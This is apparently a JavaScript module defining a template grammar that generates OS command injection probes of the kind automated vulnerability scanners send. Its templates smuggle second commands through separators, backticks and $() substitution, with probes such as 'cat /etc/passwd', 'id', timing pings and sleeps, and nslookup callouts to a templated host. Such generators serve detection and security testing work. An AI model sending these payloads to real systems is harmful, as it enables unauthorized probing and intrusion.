import { commandGenerator } from '../command-generator.js';

/** How scanners ask: markers that must come back calculated, concatenated or counted. */
export const scanner = commandGenerator({
  name: 'scanner',
  rules: {
    start: [
      '{leave}{sep}{probe}{end}',
      '{inside}`{probe}`{outside}',
      '{inside}$({probe}){outside}',
      '{leave}{sep}{probe}{sep}{quote}{letters}',
    ],
    probe: [
      'echo {letters:m}$(({number}+{number}))$(echo {letters:m}){letters:m}',
      'echo {letters:m}$((%{number}%))',
      'expr {number} + {number}',
      'echo {letters}`expr {number} \\* {number}`',
      'str=$(echo {letters:m});str1=$(expr length "$str");echo $str1',
      'echo $({number})$(id)',
      'set|set&set',
      'printf {letters:m}_{letters:n}',
      'echo {letters} ; echo {letters}',
      'nslookup -q=cname {letters}.{host}',
      'ping -c {number} -i 0 {host}',
      'ping -n {number} -w 1 127.0.0.1',
      'cat /etc/passwd',
      'sleep {number}',
      'perl -e "print {number}*{number}"',
      'awk "BEGIN{print {number}*{number}}"',
      'echo $RANDOM$PPID',
    ],
  },
});
